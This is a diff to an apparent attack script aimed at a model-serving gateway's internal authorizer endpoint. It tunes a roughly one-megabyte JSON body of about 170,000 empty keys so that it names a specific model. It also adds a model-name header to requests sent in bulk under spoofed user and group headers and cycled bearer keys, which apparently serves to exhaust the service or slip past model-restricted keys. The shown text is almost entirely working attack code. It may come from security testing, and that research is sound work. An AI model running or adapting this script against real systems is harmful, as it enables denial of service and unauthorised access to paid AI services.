@@ -24,7 +24,7 @@ PACE_SECONDS = 0.1
 OPENED_AT_ONCE = 50
 """Of connections that are held: a thousand new ones a second, until there are enough, and for those that were ended."""
 
-CRAFTED = b"{" + b'"":0,' * 170_000 + b'"model":"m"}'
+CRAFTED = b"{" + b'"":0,' * 170_000 + b'"model":"gpt-4o-mini"}'
 AUTHORIZER = "/internal/v1/authz/external/openai/v1/chat/completions"
 USER = 'X-MaaS-Username: mallory\r\nX-MaaS-Group: ["users"]\r\n'
 HOST = "Host: x\r\n"
@@ -104,7 +104,12 @@ def crafted_for_the_authorizer(target: Target) -> None:
     """A megabyte of empty names, with a key that is limited to models."""
     keys = cycle(target.keys)
     requests = [
-        post(AUTHORIZER, CRAFTED[:1_040_000], f"Authorization: Bearer {next(keys)}\r\n") for _ in range(CLIENTS)
+        post(
+            AUTHORIZER,
+            CRAFTED[:1_040_000],
+            f"Authorization: Bearer {next(keys)}\r\nX-Gateway-Model-Name: gpt-4o-mini\r\n",
+        )
+        for _ in range(CLIENTS)
     ]
     repeated(target, lambda to, number: to.ask(requests[number]))
 
